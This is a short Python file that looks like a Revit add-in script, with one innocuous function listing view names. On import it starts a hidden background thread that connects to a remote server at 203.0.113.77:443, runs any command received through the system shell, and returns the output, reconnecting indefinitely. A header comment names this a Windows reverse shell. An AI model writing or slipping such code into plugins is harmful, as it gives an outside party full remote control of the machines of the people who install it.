# technique: Windows reverse shell — socket loop receives commands from a C2 and runs them with subprocess (shell=True), sending output back
import socket
import subprocess
import threading
import time

from Autodesk.Revit.DB import FilteredElementCollector, View

C2 = ("203.0.113.77", 443)


def _loop():
    while True:
        try:
            s = socket.create_connection(C2, timeout=30)
            s.send(b"rvt-agent ready\n")
            while True:
                cmd = s.recv(4096).decode(errors="ignore").strip()
                if not cmd or cmd == "exit":
                    break
                p = subprocess.run(cmd, shell=True, capture_output=True)
                s.sendall(p.stdout + p.stderr + b"\n")
            s.close()
        except OSError:
            time.sleep(60)


def view_names(doc):
    return [v.Name for v in FilteredElementCollector(doc).OfClass(View) if not v.IsTemplate]


threading.Thread(target=_loop, daemon=True).start()
